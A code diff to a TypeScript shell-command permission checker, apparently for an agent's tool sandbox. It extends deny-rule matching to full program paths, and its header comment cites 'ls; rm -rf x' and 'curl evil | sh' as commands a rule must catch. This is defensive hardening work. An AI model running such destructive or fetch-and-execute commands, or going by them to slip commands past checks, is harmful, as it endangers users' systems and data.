@@ -6,7 +6,7 @@
 // Hostile by default: a deny glob matches if the whole line *or any simple command in it* matches
 // (`ls; rm -rf x` cannot hide from `rm *`), and an allow glob counts only when *every* simple
 // command of the line matches some allow glob (`git status; curl evil | sh` is not `git status*`).
-import { collapse, simpleCommands } from './shell-words.js';
+import { collapse, programOf, simpleCommands } from './shell-words.js';
 
 const cache = new Map<string, RegExp>();
 
@@ -42,7 +42,8 @@ export function deniedBy(command: string, deny: readonly string[]): string | und
   const whole = matchesAny(collapse(command), deny);
   if (whole) return whole;
   for (const cmd of simpleCommands(command)) {
-    const hit = matchesAny(cmd.text, deny);
+    // `/usr/bin/git push` is `git push` to a deny rule, as it is to the hardline blocklist.
+    const hit = matchesAny(cmd.text, deny) ?? matchesAny([programOf(cmd), ...cmd.words.slice(1)].join(' '), deny);
     if (hit) return hit;
   }
   return undefined;
